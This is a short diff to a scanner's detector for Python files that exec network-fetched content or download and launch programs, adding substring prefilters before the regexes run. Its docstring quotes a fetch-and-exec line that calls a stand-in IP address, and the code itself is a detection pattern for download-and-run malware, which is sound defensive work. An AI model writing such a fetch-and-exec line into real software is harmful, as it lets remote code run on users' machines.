@@ -589,12 +589,13 @@ def unparsed_python_download_and_run(ctx: FileContext) -> Iterator[Hit]:
     Example: `exec urllib2.urlopen("http://192.0.2.1/s").read()` next to `print "ok"`.
     """
     legacy = legacy_bootstrap(ctx.rel_path)
-    for m in _UNPARSED_EXEC_FETCH.finditer(ctx.text):
-        yield ctx.hit_at(m.start(), "exec of fetched content in unparsable Python"
-                         + (" (legacy bootstrap script)" if legacy else ""),
-                         severity=Severity.MEDIUM if legacy else Severity.CRITICAL)  # fmt: skip
-    runs = _UNPARSED_RUN.search(ctx.text)
-    if runs:
+    low = ctx.member.data.lower()  # the regexes' words, looked up before they run over the text
+    if b"exec" in low or b"eval" in low:
+        for m in _UNPARSED_EXEC_FETCH.finditer(ctx.text):
+            yield ctx.hit_at(m.start(), "exec of fetched content in unparsable Python"
+                             + (" (legacy bootstrap script)" if legacy else ""),
+                             severity=Severity.MEDIUM if legacy else Severity.CRITICAL)  # fmt: skip
+    if b"urlretrieve" in ctx.member.data and _UNPARSED_RUN.search(ctx.text):
         for m in _UNPARSED_RETRIEVE.finditer(ctx.text):
             yield ctx.hit_at(
                 m.start(), "`urlretrieve` download in a file that also starts a process"
